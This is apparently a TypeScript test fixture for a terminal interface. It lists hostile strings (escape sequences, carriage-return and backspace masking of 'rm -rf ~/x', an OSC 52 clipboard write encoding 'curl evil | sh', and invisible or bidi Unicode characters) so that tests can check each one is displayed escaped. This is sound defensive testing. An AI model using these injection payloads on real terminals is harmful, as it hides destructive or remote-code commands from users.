// Hostile text for display-safety tests (issue #8 §1, peers.md §7): each sample names the escaped form that must
// appear instead of it, so a test proves the text was shown (escaped), not stripped.

export interface HostileSample {
  readonly name: string;
  readonly text: string;
  /** What visible() shows for the dangerous part; must appear in the output. */
  readonly shown: string;
  /** Raw sequences that must not appear in the output. */
  readonly raw: readonly string[];
}

export const HOSTILE: readonly HostileSample[] = [
  { name: 'ESC CSI erase-line and CR', text: 'rm -rf ~/x\x1b[2K\rls -la', shown: '\\x1b[2K\\r', raw: ['\x1b[2K', '\r'] },
  { name: 'carriage return over the line', text: 'rm -rf ~/x\rls -la         ', shown: '\\r', raw: ['\r'] },
  { name: 'backspaces', text: 'rm -rf ~/x\b\b\b\b\bls', shown: '\\b', raw: ['\b'] },
  { name: 'OSC title', text: 'ls \x1b]0;pwned\x07', shown: '\\x1b]0;pwned\\x07', raw: ['\x1b]0;', '\x07'] },
  { name: 'OSC 52 clipboard write', text: 'ls \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07', shown: '\\x1b]52;c;', raw: ['\x1b]52'] },
  { name: 'C1 CSI (U+009B)', text: 'ls \u009b2J', shown: '\\x9b2J', raw: ['\u009b'] },
  { name: 'bidi override U+202E', text: 'cat \u202etxt.hsab', shown: '<U+202E>', raw: ['\u202e'] },
  { name: 'bidi isolate U+2066', text: 'echo \u2066hidden\u2069 ok', shown: '<U+2066>', raw: ['\u2066', '\u2069'] },
  { name: 'zero-width space U+200B', text: 'curl ev\u200bil.example', shown: '<U+200B>', raw: ['\u200b'] },
  { name: 'tag characters U+E0041', text: 'ls \u{E0041}\u{E0042}\u{E0043}', shown: '<U+E0041>', raw: ['\u{E0041}'] },
  { name: 'BOM U+FEFF', text: 'ls\ufeff -la', shown: '<U+FEFF>', raw: ['\ufeff'] },
  { name: 'braille pattern blank U+2800', text: 'rm\u2800-rf ~/x', shown: '<U+2800>', raw: ['\u2800'] },
  { name: 'Hangul fillers U+115F U+1160 U+3164 U+FFA0', text: 'ls\u115f\u1160\u3164\uffa0x', shown: '<U+115F><U+1160><U+3164><U+FFA0>', raw: ['\u115f', '\u1160', '\u3164', '\uffa0'] },
  { name: 'a 10 KB line', text: 'echo ' + 'A'.repeat(10_240), shown: '[+', raw: ['A'.repeat(8_001)] },
];

/** Characters that must never reach a terminal raw (a line feed only where a surface is multi-line). */
const FORBIDDEN =
  /[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u115f\u1160\u200b-\u200f\u2028-\u202e\u2060-\u2069\u2800\u3164\ufeff\uffa0]|[\u{E0000}-\u{E007F}]/u;

/** Ink's own colours are the only escapes a rendered frame may hold. */
export function withoutStyles(frame: string): string {
  return frame.replace(/\x1b\[[0-9;]*m/g, '');
}

/** The first forbidden character in `out` (with its code), or undefined. */
export function firstRaw(out: string, opts: { multiline?: boolean } = {}): string | undefined {
  const text = opts.multiline === false ? out : out.replace(/\n/g, '');
  const m = FORBIDDEN.exec(text);
  if (!m) return undefined;
  const at = m.index;
  return `U+${m[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} at ${at}: …${JSON.stringify(text.slice(Math.max(0, at - 20), at + 20))}…`;
}
